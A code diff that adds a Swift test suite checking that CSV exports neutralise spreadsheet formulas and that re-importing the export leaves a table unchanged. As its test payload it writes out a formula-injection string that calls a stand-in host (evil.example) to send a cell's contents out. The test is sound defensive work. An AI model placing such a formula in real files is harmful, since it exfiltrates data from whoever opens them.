@@ -90,3 +90,37 @@ struct CSVRoundTripTests {
         }
     }
 }
+
+/// Issue 15, item 6: a formula typed by a drafter must not reach finance's spreadsheet live.
+@Suite("Service: CSV exports safe for Excel")
+struct CSVFormulaExportTests {
+    @Test("a drafter's =HYPERLINK(...) is exported as text, and the export reads back as no change")
+    func formulaNeutralised() async throws {
+        try await withFixture { f in
+            let table = try await f.service.createTable(f.centreDrafter, f.projectTable())
+            let indicator = table.indicators[0]
+            let payload = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此查看\")"
+            _ = try await f.service.updateIndicator(
+                f.centreDrafter,
+                tableID: table.id,
+                indicatorID: indicator.id,
+                expectVersion: indicator.version,
+                IndicatorChange(content: payload, remark: "-1+1"),
+                reason: "攻击"
+            )
+            let csv = try await f.service.exportCSV(f.finance, tableIDs: [table.id])
+            // No cell of the file starts with a formula trigger.
+            let cells = csv.replacingOccurrences(of: "\r\n", with: ",").split(separator: ",", omittingEmptySubsequences: false)
+            #expect(!cells.contains { $0.hasPrefix("=") || $0.hasPrefix("\"=") || $0.hasPrefix("-") || $0.hasPrefix("\"-") })
+            #expect(csv.contains("'=HYPERLINK"))
+            let edited = try await f.service.table(f.centreDrafter, id: table.id)
+            let before = try await f.auditCount(table.id)
+            let outcome = try await f.service.importCSV(f.centreDrafter, text: csv, reason: "Excel round trip")
+            #expect(outcome.changed.isEmpty && outcome.added.isEmpty)
+            #expect(try await f.auditCount(table.id) == before)
+            let after = try await f.service.table(f.centreDrafter, id: table.id)
+            #expect(after == edited)
+            #expect(after.indicators[0].content == payload && after.indicators[0].remark == "-1+1")
+        }
+    }
+}
